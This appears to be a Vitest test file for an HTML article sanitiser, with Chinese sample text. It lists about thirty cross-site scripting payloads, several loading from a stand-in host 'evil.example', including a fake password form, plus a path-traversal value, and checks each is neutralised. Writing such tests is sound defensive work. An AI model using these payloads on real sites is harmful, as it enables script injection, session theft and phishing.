import { describe, expect, it } from 'vitest'
import { sanitizeArticleBody } from './sanitize.ts'

const HASH = 'a'.repeat(64)
const media = (sha256: string) => `/site/demo/media/${sha256}`
const clean = (html: string) => sanitizeArticleBody(html, media)

// Each payload must come out without anything that runs script, loads another address or styles the page.
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<img data-blob="${HASH}" onerror="alert(1)" onload="alert(2)">`,
  '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<svg onload="alert(1)"><script>alert(2)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<a href="//evil.example">x</a>',
  '<img srcset="https://evil.example/x.png 1x">',
  '<<script>script>alert(1)<</script>/script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  `<img data-blob="${HASH}" src="https://evil.example/track.png">`,
]

describe('article body sanitising', () => {
  it.each(XSS_PAYLOADS)('neutralises %s', (payload) => {
    const out = clean(`<p>before</p>${payload}<p>after</p>`)
    expect(out).not.toMatch(/<(script|svg|math|style|iframe|object|embed|form|input|meta|base|link)\b/i)
    expect(out).not.toMatch(/\son\w+\s*=/i)
    expect(out).not.toMatch(/style\s*=/i)
    expect(out).not.toMatch(/javascript:|data:|evil\.example|srcset/i)
    expect(out).toContain('<p>before</p>')
    expect(out).toContain('<p>after</p>')
  })

  it('keeps the rich text, safe links and blob images pointed at the media route', () => {
    const html = `<h2>标题</h2><p>正文 <strong>加粗</strong> <a href="https://example.com/a?b=1">链接</a></p>
<ul><li>一</li></ul><img data-blob="${HASH}" alt="操场"><a href="mailto:office@example.com">信箱</a>`
    expect(clean(html))
      .toBe(`<h2>标题</h2><p>正文 <strong>加粗</strong> <a href="https://example.com/a?b=1" rel="noopener noreferrer" target="_blank">链接</a></p>
<ul><li>一</li></ul><img src="/site/demo/media/${HASH}" alt="操场" loading="lazy" /><a href="mailto:office@example.com" rel="noopener noreferrer" target="_blank">信箱</a>`)
  })

  it('drops images without a valid blob hash', () => {
    expect(clean('<p>a<img data-blob="../../etc/passwd">b<img alt="x">c</p>')).toBe('<p>abc</p>')
    expect(clean(`<img data-blob="${HASH.toUpperCase()}">`)).toBe('')
  })
})
